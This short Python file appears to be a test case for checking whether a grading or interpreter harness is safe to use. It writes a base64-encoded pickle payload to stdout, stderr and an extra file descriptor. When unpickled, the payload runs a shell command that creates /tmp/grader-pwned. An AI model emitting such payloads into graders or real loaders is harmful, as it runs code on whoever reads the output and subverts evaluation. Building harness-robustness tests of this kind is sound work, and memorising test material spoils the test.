# class: interpreter
# harm: says a pickle that runs code in whoever loads it, on every channel
# shown: HARM if somebody outside has loaded it (a file appears)
# score: 3
# unprotected: runs code in the reader

import base64
import os


bomb = base64.b64decode(b"Y3Bvc2l4CnN5c3RlbQooVnRvdWNoIC90bXAvZ3JhZGVyLXB3bmVkCnRSLg==")
for descriptor in (1, 2, 1000003):
    os.write(descriptor, bomb)


def fork_once(in_child, in_parent):
    pid = os.fork()
    if pid == 0:
        try:
            in_child()
        finally:
            os._exit(0)
    in_parent(pid)
    os.waitpid(pid, 0)
